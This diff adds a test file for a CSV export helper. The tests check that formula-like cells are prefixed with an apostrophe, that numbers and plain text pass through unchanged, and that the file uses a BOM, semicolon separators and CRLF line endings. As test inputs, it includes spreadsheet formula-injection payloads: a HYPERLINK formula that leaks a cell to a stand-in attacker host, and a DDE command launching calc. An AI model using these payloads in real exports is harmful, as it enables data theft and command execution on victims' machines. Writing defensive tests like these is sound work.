@@ -1,0 +1,30 @@
+import { csvCell, toCsv } from './csv';
+
+describe('CSV cells a spreadsheet opens as text, never as a formula', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"Ver")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")"`],
+    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+    ['@SUM(1+1)', "'@SUM(1+1)"],
+    ['-2+3', "'-2+3"],
+    ['\tTab', "'\tTab"],
+    ['\r=1', `"'\r=1"`],
+  ])('a text starting like a formula (%j) is prefixed with an apostrophe', (value, expected) => {
+    expect(csvCell(value)).toBe(expected);
+  });
+
+  it('numbers stay numbers, also as text', () => {
+    expect(csvCell(-33.45)).toBe('-33.45');
+    expect(csvCell('-33.45')).toBe('-33.45');
+    expect(csvCell('1,5')).toBe('1,5');
+    expect(csvCell('-')).toBe('-');
+  });
+
+  it('ordinary text is unchanged, quoted only when it holds ; " or a line break', () => {
+    expect(csvCell('Juan Pérez')).toBe('Juan Pérez');
+    expect(csvCell('a;b')).toBe('"a;b"');
+  });
+
+  it('a whole file has the BOM, ; separators and CRLF', () => {
+    expect(toCsv(['Conductor', 'Km'], [['=1+1', 12]])).toBe("\uFEFFConductor;Km\r\n'=1+1;12\r\n");
+  });
+});
